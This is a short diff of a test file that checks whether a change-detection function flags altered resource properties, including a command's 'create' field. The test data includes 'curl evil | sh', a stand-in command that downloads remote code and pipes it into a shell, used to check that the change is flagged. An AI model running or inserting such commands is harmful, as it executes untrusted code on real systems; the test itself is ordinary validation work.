@@ -148,7 +148,7 @@ describe("an input of a known type", () => {
     expect(
       changed(alert, { criteria: { allOf: [{ query: "a" }] } }, { criteria: { allOf: [{ query: "b" }] } }),
     ).toEqual(["unknown resource/unknown-property: x criteria.allOf[].query"]);
-    expect(changed(command, { create: "node ../publish.ts" }, { create: "curl evil | sh" })).toEqual([
+    expect(changed(command, { create: "node --import=@protected-function/infra/publish --eval 0" }, { create: "curl evil | sh" })).toEqual([
       "unknown resource/unknown-property: x create",
     ]);
     expect(
